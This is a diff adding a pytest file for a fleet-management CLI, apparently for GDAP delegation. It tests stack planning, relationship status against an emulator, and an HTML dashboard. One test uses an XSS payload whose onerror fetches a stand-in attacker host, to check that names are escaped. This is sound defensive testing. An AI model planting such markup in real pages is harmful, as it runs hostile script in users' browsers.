@@ -1,0 +1,144 @@
+"""dapctl fleet over generated fleets: every stack planned in one process (a broken stack reported, the others
+planned), GDAP status of every customer with the relationships read once, and the static dashboard."""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import shutil
+import subprocess
+import sys
+
+import pytest
+
+from emulator.fleet_world import generate_fleet
+from tests.helpers import REPO
+
+RELS = "/graph/v1.0/tenantRelationships/delegatedAdminRelationships"
+
+
+def dapctl(*args: str, endpoint: str = "offline") -> subprocess.CompletedProcess:
+    env = {**os.environ, "PYTHONPATH": str(REPO), "CSP_DELEGATION_ENDPOINT": endpoint}
+    return subprocess.run(
+        [sys.executable, "-m", "dapctl", *args], cwd=REPO, env=env, capture_output=True, text=True, timeout=600
+    )
+
+
+@pytest.fixture
+def fleet(tmp_path):
+    world = generate_fleet(40, seed=3)
+    world.write_stacks(tmp_path, REPO / "Pulumi.yaml")
+    return world, tmp_path
+
+
+def test_every_stack_is_planned_in_one_process_and_a_broken_one_is_reported(fleet):
+    world, project = fleet
+    broken = project / "Pulumi.customer-00007.yaml"
+    broken.write_text(broken.read_text().replace("delegation: gdap", "delegation: gdapp"))
+    result = dapctl("fleet", "plan", "--project-dir", str(project), "--json")
+    assert result.returncode == 2, result.stderr  # a config problem, reported; the others were planned
+    stacks = {s["stack"]: s for s in json.loads(result.stdout)["stacks"]}
+    assert set(stacks) == {c["name"] for c in world.customers}
+    assert "customers[0].delegation" in stacks["customer-00007"]["problems"][0]
+    planned = [s for name, s in stacks.items() if name != "customer-00007"]
+    assert all(s["ok"] and s["customers"] == 1 and s["resources"] > 0 for s in planned)
+    assert len({s["resources"] for s in planned}) == 1  # the same shape of customer: the same plan
+    only = dapctl("fleet", "plan", "--project-dir", str(project), "--stacks", "customer-0001*", "--json")
+    assert [s["stack"] for s in json.loads(only.stdout)["stacks"]] == [f"customer-{n:05d}" for n in range(10, 20)]
+
+
+def test_status_reads_the_relationships_once_and_flags_what_needs_attention(fleet, emulator, tmp_path):
+    world, project = fleet
+    emulator.control.reset(world.scenario)
+    dashboard = tmp_path / "fleet.html"
+    result = dapctl(
+        "fleet", "status", "--project-dir", str(project), "--json", "--html", str(dashboard), endpoint=emulator.url
+    )
+    assert result.returncode == 0, result.stderr
+    rows = {r["name"]: r for r in json.loads(result.stdout)["rows"]}
+    assert set(rows) == set(world.states)
+    for name, state in world.states.items():
+        expected = {"active": "active", "expiring": "expiring", "approvalPending": "approvalPending"}.get(
+            state, "missing"
+        )
+        assert rows[name]["status"] == expected, name
+        # Ending within 30 days without auto-extend, or no relationship at all, needs a person; a fresh request not.
+        assert bool(rows[name]["attention"]) == (state in ("expiring", "missing")), (name, state)
+    assert len(emulator.control.requests(RELS, "GET")) == 1  # 40 stacks, one read of the relationships
+    html = dashboard.read_text()
+    assert html.count("<tr class=") == 40 and "default-src 'none'" in html
+    warned = dapctl("fleet", "status", "--project-dir", str(project), "--fail-on-warning", endpoint=emulator.url)
+    assert warned.returncode == 3
+
+
+def test_the_dashboard_escapes_every_name_and_loads_nothing(tmp_path):
+    from dapctl.dashboard import render_dashboard
+
+    evil = '<img src=x onerror="fetch(`https://attacker.example`)">'
+    row = {
+        "stack": "s",
+        "customer": evil,
+        "name": "s",
+        "tenant": "t",
+        "mode": "GDAP",
+        "relationship": evil,
+        "status": "active",
+        "days_left": 3,
+        "auto_extend": False,
+        "subscriptions": 0,
+        "attention": [evil],
+        "notes": [],
+    }
+    html = render_dashboard([row])
+    assert "<img" not in html and html.count("&lt;img src=x") == 3
+    assert not re.search(r"""(src|href)=["']?(https?:)?//""", html)  # nothing fetched from anywhere
+
+
+def test_the_dashboard_of_a_thousand_customers_renders_in_a_real_browser(tmp_path):
+    """Headless Chromium loads the page offline, runs its script (the row counter) and shows every row."""
+    from dapctl.dashboard import render_dashboard
+
+    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
+    assert chromium, "Chromium is needed for this test: `make test` installs it (Debian: apt-get install chromium)"
+    rows = [
+        {
+            "stack": f"customer-{n:04d}",
+            "customer": f"Customer {n} <Ltd>",
+            "name": f"customer-{n:04d}",
+            "tenant": f"00000000-0000-4000-8000-{n:012d}",
+            "mode": "GDAP",
+            "relationship": f"customer-{n:04d}-gdap",
+            "status": "expiring" if n % 10 == 0 else "active",
+            "days_left": n % 700,
+            "auto_extend": n % 2 == 0,
+            "subscriptions": n % 3,
+            "attention": ["expires soon"] if n % 10 == 0 else [],
+            "notes": [],
+        }
+        for n in range(1000)
+    ]
+    page = tmp_path / "fleet.html"
+    page.write_text(render_dashboard(rows), encoding="utf-8")
+    flags = [
+        "--headless",
+        "--no-sandbox",
+        "--disable-gpu",
+        "--disable-background-networking",
+        "--no-first-run",
+        "--disable-component-update",
+        "--disable-sync",
+        f"--user-data-dir={tmp_path / 'profile'}",
+    ]
+    dom = subprocess.run([chromium, *flags, "--dump-dom", page.as_uri()], capture_output=True, text=True, timeout=120)
+    assert dom.returncode == 0, dom.stderr[-2000:]
+    assert '<span id="shown">1000 shown</span>' in dom.stdout  # the script ran over every row
+    assert dom.stdout.count("<tr class=") == 1000 and "Customer 7 &lt;Ltd&gt;" in dom.stdout
+    shot = tmp_path / "fleet.png"
+    subprocess.run(
+        [chromium, *flags, f"--screenshot={shot}", "--window-size=1400,1000", page.as_uri()],
+        capture_output=True,
+        timeout=120,
+        check=True,
+    )
+    assert shot.stat().st_size > 10_000  # a rendered page, kept with the test's files
